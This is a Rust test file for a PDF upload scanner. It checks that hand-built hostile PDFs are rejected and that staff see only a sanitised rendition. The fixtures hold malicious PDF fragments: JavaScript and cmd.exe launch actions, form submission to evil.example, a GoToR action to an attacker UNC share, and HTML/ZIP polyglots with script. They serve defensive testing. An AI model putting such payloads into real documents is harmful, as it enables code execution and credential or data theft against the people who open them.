//! The scanner on hand-written PDFs: active content (plain, escaped, compressed), encryption,
//! broken structure and encodings it cannot inspect.

use figment::providers::Serialized;
use tresor::documents::{DocumentType, ScanStatus};

use crate::support::documents::{self, app, stream, verdict, zlib};
use crate::support::spawn_app_with;

#[actix_web::test]
async fn pdfs_with_active_content_or_broken_structure_are_refused() {
    let app = app().await;
    let active = "the PDF contains scripts, launch actions, embedded files or rich media";
    let js_action = "<< /S /JavaScript /JS (app.alert('hi')) >>".as_bytes().to_vec();
    let object_stream =
        stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &zlib(b"6 0 << /S /JavaScript /JS (x) >>"));
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("OpenAction JavaScript", documents::pdf("/OpenAction 5 0 R", "x", &[js_action]), active),
        ("escaped name", documents::pdf("/OpenAction << /S /J#61vaScript /J#53 (x) >>", "x", &[]), active),
        ("compressed object stream", documents::pdf("", "x", &[object_stream]), active),
        ("launch action", documents::pdf("/OpenAction << /S /Launch /F (cmd.exe) >>", "x", &[]), active),
        ("embedded file", documents::pdf("/Names << /EmbeddedFiles 5 0 R >>", "x", &[b"<< >>".to_vec()]), active),
        ("rich media", documents::pdf("", "x", &[b"<< /Type /Annot /Subtype /RichMedia >>".to_vec()]), active),
        ("encrypted", encrypted(), "the PDF is encrypted or password-protected"),
        ("cut off", documents::plain_pdf("x")[..200].to_vec(), "file is not a valid PDF"),
        ("no catalog", b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\nstartxref\n0\n%%EOF\n".to_vec(), "file is not a valid PDF"),
        (
            "bad stream",
            documents::pdf("", "x", &[stream("/Filter /FlateDecode", b"not zlib")]),
            "file is not a valid PDF",
        ),
        ("LZW", documents::pdf("", "x", &[stream("/Filter /LZWDecode", b"\x80\x0b")]), "the PDF uses an encoding"),
    ];
    for (what, bytes, reason) in cases {
        let outcome = verdict(&app, DocumentType::ProofOfAddress, &bytes).await;
        assert_eq!(outcome.status, ScanStatus::Rejected, "{what}");
        assert!(outcome.rejection_reason.as_deref().unwrap().starts_with(reason), "{what}: {outcome:?}");
    }
}

fn encrypted() -> Vec<u8> {
    let pdf = documents::plain_pdf("secret");
    let text = String::from_utf8_lossy(&pdf).replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 5 0 R");
    text.into_bytes()
}

/// Actions that reach outside the document, wherever they hide: the catalog's `/OpenAction`, a
/// page's or the catalog's additional actions (`/AA`), a link annotation, an object stream, a
/// name written with `#xx` escapes.
#[actix_web::test]
async fn actions_that_reach_outside_the_document_are_refused_wherever_they_are() {
    let app = app().await;
    let outside =
        "the PDF contains scripts, launch actions, embedded files or rich media, or actions that reach outside it";
    let uri_in_object_stream = stream(
        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        &zlib(b"6 0 << /S /URI /URI (https://evil.example/) >>"),
    );
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("OpenAction URI", documents::pdf("/OpenAction << /S /URI /URI (https://evil.example/) >>", "x", &[])),
        (
            "AA SubmitForm",
            documents::pdf("/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>", "x", &[]),
        ),
        (
            "GoToR to a UNC path",
            documents::pdf(r"/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>", "x", &[]),
        ),
        ("GoToE", documents::pdf("/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>", "x", &[])),
        ("ImportData", documents::pdf("/OpenAction << /S /ImportData /F (data.fdf) >>", "x", &[])),
        (
            "OpenAction to an action object",
            documents::pdf("/OpenAction 5 0 R", "x", &[b"<< /S /URI /URI (https://e.example) >>".to_vec()]),
        ),
        (
            "link annotation",
            documents::pdf(
                "",
                "x",
                &[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://e.example) >> >>"
                    .to_vec()],
            ),
        ),
        ("escaped action name", documents::pdf("/OpenAction << /S /U#52I /URI (https://e.example) >>", "x", &[])),
        ("URI in a compressed object stream", documents::pdf("", "x", &[uri_in_object_stream])),
        ("XFA form", documents::pdf("/AcroForm << /Fields [] /XFA 5 0 R >>", "x", &[stream("", b"<xdp/>")])),
    ];
    for (what, bytes) in cases {
        let outcome = verdict(&app, DocumentType::ProofOfAddress, &bytes).await;
        assert_eq!(outcome.status, ScanStatus::Rejected, "{what}");
        assert!(outcome.rejection_reason.as_deref().unwrap().starts_with(outside), "{what}: {outcome:?}");
    }
    // Actions inside the document stay allowed: open at page one, fit to the window.
    let inside = documents::pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", "x", &[]);
    assert_eq!(verdict(&app, DocumentType::ProofOfAddress, &inside).await.status, ScanStatus::Clean);
}

/// A file that is a PDF and something else at once (PDF + HTML + ZIP) is refused; a line end or
/// two after `%%EOF` is not.
#[actix_web::test]
async fn polyglots_are_refused() {
    let app = app().await;
    let polyglot = "the PDF also carries another kind of file";
    let plain = documents::plain_pdf("x");
    let zip_directory = b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("HTML after %%EOF", [plain.clone(), b"<html><script>alert(1)</script></html>".to_vec()].concat()),
        ("ZIP after %%EOF", [plain.clone(), zip_directory.clone()].concat()),
        ("a long tail of spaces", [plain.clone(), vec![b' '; 200]].concat()),
        ("HTML in a comment", documents::pdf("", "x", &[b"<< >>\n%<!DOCTYPE html><body onload=alert(1)>".to_vec()])),
        (
            "ZIP directory in a comment before %%EOF",
            [&plain[..plain.len() - 6], b"%", &zip_directory, b"\n%%EOF\n"].concat(),
        ),
        ("HTML in a stream", documents::pdf("", "x", &[stream("", b"<SCRIPT>alert(1)</SCRIPT>")])),
    ];
    for (what, bytes) in cases {
        let outcome = verdict(&app, DocumentType::ProofOfAddress, &bytes).await;
        assert_eq!(outcome.status, ScanStatus::Rejected, "{what}");
        assert!(outcome.rejection_reason.as_deref().unwrap().starts_with(polyglot), "{what}: {outcome:?}");
    }
    let tolerated = [plain.clone(), b"\r\n\r\n".to_vec()].concat();
    assert_eq!(verdict(&app, DocumentType::ProofOfAddress, &tolerated).await.status, ScanStatus::Clean);
}

/// The parser runs under a size cap and a time limit.
#[actix_web::test]
async fn pdfs_over_the_size_cap_or_the_parse_time_are_refused_as_uninspectable() {
    let uninspectable = "the PDF uses an encoding the scanner cannot inspect";
    let capped = spawn_app_with(|f| f.merge(Serialized::default("scan.pdf_max_bytes", 1000))).await;
    let big = documents::pdf("", &"x".repeat(2000), &[]);
    let outcome = verdict(&capped, DocumentType::ProofOfAddress, &big).await;
    assert!(outcome.rejection_reason.as_deref().unwrap().starts_with(uninspectable), "{outcome:?}");

    let hurried = spawn_app_with(|f| f.merge(Serialized::default("scan.pdf_parse_timeout_ms", 1))).await;
    let many: Vec<Vec<u8>> = (0..60_000).map(|i| format!("<< /N {i} /Kids [1 0 R 2 0 R] >>").into_bytes()).collect();
    let slow = documents::pdf("", "x", &many);
    let outcome = verdict(&hurried, DocumentType::ProofOfAddress, &slow).await;
    assert_eq!(outcome.status, ScanStatus::Rejected);
    assert!(outcome.rejection_reason.as_deref().unwrap().starts_with(uninspectable), "{outcome:?}");
    // The same file passes given time (a generous limit: test machines are shared and busy).
    let patient = spawn_app_with(|f| f.merge(Serialized::default("scan.pdf_parse_timeout_ms", 120_000))).await;
    assert_eq!(verdict(&patient, DocumentType::ProofOfAddress, &slow).await.status, ScanStatus::Clean);
}

/// Staff open a PDF as its safe rendition: the pages and their text, without the outline, the
/// opening action or the document information; the owner still downloads the bytes they uploaded.
#[actix_web::test]
async fn staff_read_a_safe_rendition_while_the_owner_keeps_the_original_bytes() {
    use tresor::documents::Access;
    use uuid::Uuid;

    use crate::support::documents::{actor, body, docs, download, scan, upload};

    let app = app().await;
    let owner = Uuid::now_v7();
    let original = documents::pdf(
        "/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /Outlines 5 0 R /PageMode /UseOutlines",
        "Statement for November",
        &[b"<< /Type /Outlines /Count 0 >>".to_vec()],
    );
    let version = upload(&app, owner, DocumentType::ProofOfAddress, Some("statement"), &original).await.unwrap();
    assert_eq!(scan(&app, &version).await.status, ScanStatus::Clean);
    assert_eq!(download(&app, owner, version.id, None).await.1, original, "the owner's bytes are untouched");

    let staff = Uuid::now_v7();
    let link = docs(&app).link(staff, &Access::Staff, version.id, None).await.unwrap();
    let token = link.url.rsplit('/').next().unwrap().to_owned();
    let rendition = docs(&app).download(&actor(staff), &token, Some(staff)).await.unwrap();
    assert_eq!(rendition.content_type, "application/pdf");
    let size = rendition.size;
    let bytes = body(rendition).await.unwrap();
    assert_eq!(size as usize, bytes.len(), "the declared size is the rendition's");
    assert_ne!(bytes, original);
    let document = lopdf::Document::load_mem(&bytes).expect("the rendition is a PDF");
    let catalog = document.catalog().unwrap();
    for dropped in ["OpenAction", "Outlines", "PageMode"] {
        assert!(!catalog.has(dropped.as_bytes()), "{dropped} is dropped");
    }
    let pages = document.get_pages();
    assert_eq!(pages.len(), 1);
    let content = document.get_page_content(pages[&1]);
    assert!(String::from_utf8_lossy(&content).contains("(Statement for November) Tj"), "the page draws what it drew");
    let audited: String = sqlx::query_scalar(
        "SELECT new_value FROM audit_log WHERE action = 'document.download' ORDER BY seq DESC LIMIT 1",
    )
    .fetch_one(app.state.db.reader())
    .await
    .unwrap();
    assert!(audited.contains(r#""rendition":"safe""#), "{audited}");
}
